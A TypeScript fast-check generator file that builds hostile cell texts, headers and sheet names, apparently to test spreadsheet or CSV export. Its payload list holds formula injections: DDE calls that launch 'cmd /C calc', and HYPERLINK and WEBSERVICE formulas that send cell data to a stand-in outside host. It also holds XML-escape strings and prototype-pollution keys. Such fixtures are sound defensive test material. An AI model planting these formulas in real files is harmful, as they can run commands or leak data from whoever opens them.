import fc from 'fast-check';

/** Beginnings of a cell that a spreadsheet may take for a formula, in any writing. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', "'=", '"=', '{=', '%0A=', ''];

/** What attackers put behind it: commands, links to elsewhere, and text that leaves its own field or element. */
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'HYPERLINK("https://elders.nl/?x="&A2,"klik")',
  'WEBSERVICE("https://elders.nl/"&A2)',
  'IMPORTXML("https://elders.nl","//a")',
  '1+1',
  '",=1+1,"',
  '";=1+1;"',
  '\r\n=1+1',
  ';=1+1',
  '</t></is></c><c r="B2"><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '_x003D_1+1',
  '31-12-2026',
  '1E5',
  'WAAR',
  '#REF!',
];

/** Signs that break texts: control characters, turned writing, halves of a pair, wide and combined signs. */
const SIGNS = ['\u0000', '\u0001', '\u001b', '\u007f', '\u0085', '\u2028', '\u202e', '\u2066', '\u200b', '\ud83d', '\udc00', '\ufffe', '👩‍👩‍👧', 'e\u0301', '\u00a0', '<', '&', '"', "'", '|', ';'];

/** Text of a cell as somebody would write it to have it run. */
export const hostileText: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...BEGINNINGS), fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ unit: fc.constantFrom(...SIGNS, 'a', '1'), maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 20 })))
  .map(([begin, rest]) => begin + rest);

/** Names that objects of JavaScript already have. */
const PROTOTYPE = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

/** Headers that nobody would write: very long, of objects of JavaScript, turned, twice, of signs. */
export const hostileHeader: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PROTOTYPE, 'wet', 'WET ', 'w e_t', 'client_id', 'x'.repeat(10_000), '\u202e'.repeat(200), '👩‍👩‍👧'.repeat(50), ' ', '\u0000'),
  hostileText,
  fc.string({ unit: fc.constantFrom(...SIGNS), minLength: 1, maxLength: 40 }),
);

/** Names of sheets as a file can hold them: quotes, addresses, words of Excel, the longest there may be. */
export const hostileSheetName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('A1', 'R1C1', 'History', 'TRUE', "O'Brien", "''", '"', '&', '<b>', '#REF!', '=1+1', 'x'.repeat(31), "'".repeat(31), '"'.repeat(31), '__proto__', 'constructor', '$A$1', 'Blad!A1', '{0}', '${a}', '\u202eneb'),
  fc.string({ unit: fc.constantFrom("'", '"', '!', '$', '#', '&', ',', '(', ')', '=', ' ', 'a', 'é', '1'), minLength: 1, maxLength: 31 }),
);

/** The text as a file or a sheet can hold it: signs that are none in XML fall away. */
export const heldText = (text: string): string =>
  [...text]
    .filter((sign) => {
      const code = sign.codePointAt(0) ?? 0;
      return (code >= 32 || code === 9 || code === 10 || code === 13) && !(code >= 0xd800 && code < 0xe000) && code !== 0xfffe && code !== 0xffff;
    })
    .join('');
